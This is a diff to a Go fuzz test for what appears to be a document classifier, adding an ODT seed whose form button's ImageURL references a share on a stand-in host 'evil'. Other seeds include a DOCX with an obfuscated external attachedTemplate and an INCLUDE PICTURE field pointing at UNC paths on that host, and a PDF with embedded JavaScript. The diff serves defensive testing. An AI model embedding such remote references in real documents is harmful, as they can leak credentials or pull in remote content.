@@ -34,6 +34,8 @@ func FuzzClassify(f *testing.F) {
 	f.Add(docx(f, deflate("word/_rels/settings.xml.rels", []byte(`<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="\\\\evil\\t.dotm" TargetMode="&#69;xternal"/><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://example.jp/" TargetMode="External"/></Relationships>`)),
 		deflate("word/document.xml", wordField(` INCLUDE`, `PICTURE "\\\\evil\\s\\a.png" \d `))), "application/octet-stream", "a.docx")
 	f.Add(zipFile(f, deflate("mimetype", []byte("application/vnd.oasis.opendocument.text")), deflate("content.xml", []byte(`<office:document-content/>`))), "", "a.odt")
+	// A form control's property naming a share.
+	f.Add(odfFile(f, mimeODT, odfBody("text", `<office:forms><form:form><form:button><form:properties><form:property form:property-name="ImageURL" office:value-type="string" office:string-value="file://evil/s/a.png"/></form:properties></form:button></form:form></office:forms>`)), "", "a.odt")
 	f.Add(gzipOf(f, "", tarFile(f, map[string][]byte{"a.sh": []byte("#!")}, "a.sh")), "", "a.tgz")
 	f.Add(oleFile(clsidMSI), "", "a.msi")
 	f.Add(pdfFile("/JS (x)"), "application/pdf", "a.pdf")
